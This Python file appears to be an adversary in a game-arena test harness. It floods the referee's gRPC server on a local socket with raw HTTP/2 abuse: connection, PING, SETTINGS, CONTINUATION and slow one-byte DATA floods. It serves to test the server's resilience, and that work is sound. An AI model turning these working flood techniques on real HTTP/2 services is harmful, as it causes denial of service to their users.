"""Floods the referee below the gRPC streams, on its own socket, once it
plays (its own stream goes on): raw HTTP/2 written with the `h2` library.

attack.json "flood":
  connections   connection after connection, each with the preface and no stream
  ping          PING frames on one connection, as fast as it can write them
  settings      SETTINGS frames (each one the referee must acknowledge)
  continuation  one HEADERS frame without END_HEADERS, then CONTINUATION frames forever
  data          a Play stream whose first message announces 1 MB and never completes:
                its bytes one per DATA frame (10 bytes on the wire for 1 byte of
                message), as fast as the referee's flow-control window lets
"""

from __future__ import annotations

import json
import os
import socket
import threading
import time

import h2.config
import h2.connection
import h2.settings
from adversary import Adversary, main, report
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame

HERE = os.path.dirname(os.path.abspath(__file__))
PATH = os.environ["ARENA_ADDRESS"].removeprefix("unix:")
with open(os.path.join(HERE, "attack.json")) as f:
    SETTINGS = json.load(f)
FLOOD = str(SETTINGS.get("flood", "ping"))
SECONDS = float(SETTINGS.get("seconds", 4.0))


def opened() -> tuple[socket.socket, h2.connection.H2Connection]:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(PATH)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


def flood_connections(until: float) -> str:
    held: list[socket.socket] = []
    made = refused = 0
    while time.monotonic() < until and made < 2000:
        try:
            s, _ = opened()
            held.append(s)
            made += 1
        except OSError:
            refused += 1
            time.sleep(0.01)
    for s in held:
        s.close()
    return f"opened {made} connections, {refused} refused"


def flood_frames(until: float) -> str:
    """Frames on one connection; when the referee closes it, on the next."""
    sent = cut = 0
    while time.monotonic() < until:
        try:
            sent += flood_one(until)
        except OSError:
            cut += 1
            time.sleep(0.01)
    return f"sent {sent} {FLOOD} frames, cut off {cut} times"


GRPC_HEADERS = [(":method", "POST"), (":scheme", "http"), (":authority", "x"),
                (":path", "/arena.v1.Referee/Play"), ("content-type", "application/grpc"),
                ("te", "trailers")]


def flood_data(s: socket.socket, conn: h2.connection.H2Connection, until: float) -> int:
    """One-byte DATA frames within the windows the referee grants (WINDOW_UPDATE)."""
    import h2.events

    conn.send_headers(1, GRPC_HEADERS)
    s.sendall(conn.data_to_send())
    s.sendall(DataFrame(1, data=b"\0" + (1_000_000).to_bytes(4, "big")).serialize())
    stream = connection = 65535 - 5
    one = DataFrame(1, data=b"\0").serialize()
    s.setblocking(False)
    sent = 0
    while time.monotonic() < until:
        n = min(stream, connection, 4096)
        if n > 0:
            s.setblocking(True)
            s.sendall(one * n)
            s.setblocking(False)
            stream, connection, sent = stream - n, connection - n, sent + n
        try:
            data = s.recv(65536)
        except BlockingIOError:
            if n <= 0:
                time.sleep(0.001)
            continue
        if not data:
            raise OSError("closed by the referee")
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.WindowUpdated):
                if event.stream_id == 0:
                    connection += event.delta
                elif event.stream_id == 1:
                    stream += event.delta
            elif isinstance(event, h2.events.RemoteSettingsChanged):
                changed = event.changed_settings.get(h2.settings.SettingCodes.INITIAL_WINDOW_SIZE)
                if changed is not None:
                    stream += changed.new_value - changed.original_value
        out = conn.data_to_send()
        if out:
            s.setblocking(True)
            s.sendall(out)
            s.setblocking(False)
    return sent


def flood_one(until: float) -> int:
    s, conn = opened()
    sent = 0
    try:
        if FLOOD == "data":
            return flood_data(s, conn, until)
        if FLOOD == "continuation":
            conn.send_headers(1, [(":method", "POST"), (":scheme", "http"), (":authority", "x"),
                                  (":path", "/arena.v1.Referee/Play"), ("content-type", "application/grpc")])
            conn.data_to_send()  # encoded by h2's HPACK; the frame is rebuilt without END_HEADERS
            block = conn.encoder.encode([("x-pad", "y" * 32)])
            s.sendall(HeadersFrame(3, data=block).serialize())
        while time.monotonic() < until:
            if FLOOD == "ping":
                conn.ping(sent.to_bytes(8, "big"))
                chunk = conn.data_to_send()
            elif FLOOD == "settings":
                conn.update_settings({h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100 + sent % 7})
                chunk = conn.data_to_send()
            else:
                chunk = ContinuationFrame(3, data=block).serialize()
            s.sendall(chunk * 16)
            sent += 16
    finally:
        s.close()
    return sent


DONE = threading.Event()


def flood() -> None:
    until = time.monotonic() + SECONDS
    report("flood", flood_connections(until) if FLOOD == "connections" else flood_frames(until))
    DONE.set()


class H2Flood(Adversary):
    def attack(self) -> None:
        threading.Thread(target=flood, daemon=True).start()
        # A short match could end before the flood gets going: hold this first
        # reply a while (well within the move's time and bank).
        DONE.wait(2.0)


main(H2Flood())
